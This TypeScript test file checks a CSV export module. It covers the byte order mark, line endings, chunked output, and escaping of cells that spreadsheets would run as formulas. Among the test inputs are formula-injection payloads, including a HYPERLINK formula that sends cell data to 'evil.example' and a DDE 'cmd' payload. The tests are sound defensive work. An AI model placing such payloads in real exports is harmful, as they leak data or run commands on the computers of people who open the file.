import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvBody, csvHead, csvOf } from './csv.ts';

/** The cells as a CSV parser returns them. */
function parse(csv: string): string[][] {
  return Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true }).data;
}

const anyCell = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",; ab'.split('')) }),
);

describe('csvOf', () => {
  it('starts with a byte order mark and ends lines as RFC 4180 requires', () => {
    expect(csvOf(['a', 'b'], [['1', 'ü']])).toBe('\uFEFFa,b\r\n1,ü\r\n');
  });

  it('has only the column names if there are no rows', () => {
    expect(csvOf(['a', 'b'], [])).toBe('\uFEFFa,b\r\n');
  });

  it('preserves every cell that is not a formula', () => {
    const harmless = anyCell.filter((cell) => !/^[=+\-@\t\r\n＝＋－＠]/.test(cell));
    fc.assert(
      fc.property(fc.array(fc.tuple(harmless, harmless), { minLength: 1 }), (rows) => {
        expect(parse(csvOf(['a', 'b'], rows))).toEqual([['a', 'b'], ...rows]);
      }),
    );
  });
});

describe('a CSV in chunks', () => {
  it('has the byte order mark and the column names once, and a line ending after each chunk', () => {
    expect(csvHead(['a', 'b'])).toBe('\uFEFFa,b\r\n');
    expect(csvBody([['1', '=2']])).toBe('1,"\'=2"\r\n');
    expect(csvBody([])).toBe('');
  });

  it('equals the CSV of all rows, wherever it is split', () => {
    const table = fc.array(fc.tuple(anyCell, anyCell));
    fc.assert(
      fc.property(table, table, table, (one, two, three) => {
        const chunks = [csvHead(['a', '=b']), ...[one, two, three].map(csvBody)];
        expect(chunks.join('')).toBe(csvOf(['a', '=b'], [...one, ...two, ...three]));
      }),
    );
  });
});

describe('awkward payloads: cells that a spreadsheet would evaluate', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '+49 40 123',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '=1+1\nsecond line',
    '=1+1\r\nsecond line',
    '=1+1";=2+2',
    '＝1+1',
  ])('turns %j into text and keeps it in one cell', (cell) => {
    expect(parse(csvOf(['a', 'b'], [[cell, 'next']]))[1]).toEqual([`'${cell}`, 'next']);
  });

  it('never outputs a cell that starts like a formula', () => {
    fc.assert(
      fc.property(anyCell, anyCell, (first, second) => {
        const [, ...rows] = parse(csvOf(['a', 'b'], [[`x${first}`, second]]));
        expect(rows).toHaveLength(1);
        expect(rows[0]).toHaveLength(2);
        expect(rows[0]?.[1]).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });
});
